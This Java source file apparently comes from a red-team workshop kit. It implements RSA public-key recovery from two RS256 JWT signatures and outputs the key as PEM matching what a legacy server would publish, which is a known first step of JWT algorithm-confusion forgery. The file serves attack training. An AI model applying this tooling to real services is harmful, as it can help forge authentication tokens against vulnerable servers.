package workshop.attacks;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.MessageDigest;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Optional;

/** Red team: an RSA public key recovered from two RS256 signatures, when the server does not publish it. */
public final class ModulusRecovery {

    /** Kit bound: {@code s^e} for larger exponents is too big for BigInteger's gcd (see notebook 04, A5). */
    public static final BigInteger MAX_EXPONENT = BigInteger.valueOf(257);

    /** DER of DigestInfo for SHA-256, before the 32 digest bytes (RFC 8017 9.2, note 1). */
    private static final byte[] SHA256_DIGEST_INFO = HexFormat.of().parseHex("3031300d060960864801650304020105000420");

    private ModulusRecovery() {
    }

    /**
     * A5 · the modulus {@code n} of the key that signed both RS256 tokens, assuming public exponent {@code e}:
     * {@code gcd(s1^e − m1, s2^e − m2)} with m the PKCS#1 v1.5 encoding of the SHA-256 digest of the signing input,
     * freed of small factors, and accepted only if it has the signature's size and {@code s1^e mod n == m1}; empty
     * for a wrong guess of e. IllegalArgumentException for {@code e > MAX_EXPONENT} (bounded work).
     */
    public static Optional<BigInteger> modulus(String token1, String token2, BigInteger e) {
        if (e.compareTo(BigInteger.TWO) <= 0 || e.compareTo(MAX_EXPONENT) > 0) {
            throw new IllegalArgumentException("e = " + e + " is outside 3.." + MAX_EXPONENT + ": s^e would have about "
                    + e + " × 2048 bits, and BigInteger's gcd is quadratic (kit bound; GMP's half-gcd, as in sig2n, goes further)");
        }
        byte[] s1 = Jwt.signature(token1);
        byte[] s2 = Jwt.signature(token2);
        int k = s1.length;
        if (k != s2.length || k < 64) {
            throw new IllegalArgumentException("two RS256 signatures of the same key have the same size");
        }
        BigInteger m1 = encoded(Jwt.signingInput(token1), k);
        BigInteger m2 = encoded(Jwt.signingInput(token2), k);
        BigInteger sig1 = new BigInteger(1, s1);
        BigInteger n = sig1.pow(e.intValueExact()).subtract(m1).gcd(new BigInteger(1, s2).pow(e.intValueExact()).subtract(m2));
        for (int p = 2; p < 10_000 && n.bitLength() > 8 * k; p++) { // n = k·N: remove the small cofactor k
            BigInteger small = BigInteger.valueOf(p);
            while (n.mod(small).signum() == 0 && n.bitLength() > 8 * k) {
                n = n.divide(small);
            }
        }
        boolean fits = n.bitLength() > 8 * (k - 1) && n.bitLength() <= 8 * k;
        return fits && sig1.modPow(e, n).equals(m1) ? Optional.of(n) : Optional.empty();
    }

    /** A5 · the public key (n, e) as PEM text, byte for byte as the legacy server would publish it (see its Pem). */
    public static String pem(BigInteger n, BigInteger e) {
        try {
            byte[] der = KeyFactory.getInstance("RSA").generatePublic(new RSAPublicKeySpec(n, e)).getEncoded();
            String body = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(der);
            return "-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n";
        } catch (GeneralSecurityException ex) {
            throw new IllegalArgumentException("not an RSA public key: " + ex.getMessage(), ex);
        }
    }

    /** EMSA-PKCS1-v1_5 (RFC 8017 9.2): 00 01 FF…FF 00 DigestInfo(SHA-256, digest), k bytes, as a number. */
    static BigInteger encoded(byte[] signingInput, int k) {
        byte[] digest;
        try {
            digest = MessageDigest.getInstance("SHA-256").digest(signingInput);
        } catch (GeneralSecurityException ex) {
            throw new IllegalStateException(ex);
        }
        ByteArrayOutputStream em = new ByteArrayOutputStream(k);
        em.write(0x00);
        em.write(0x01);
        for (int i = 0; i < k - 3 - SHA256_DIGEST_INFO.length - digest.length; i++) {
            em.write(0xFF);
        }
        em.write(0x00);
        em.writeBytes(SHA256_DIGEST_INFO);
        em.writeBytes(digest);
        return new BigInteger(1, em.toByteArray());
    }
}
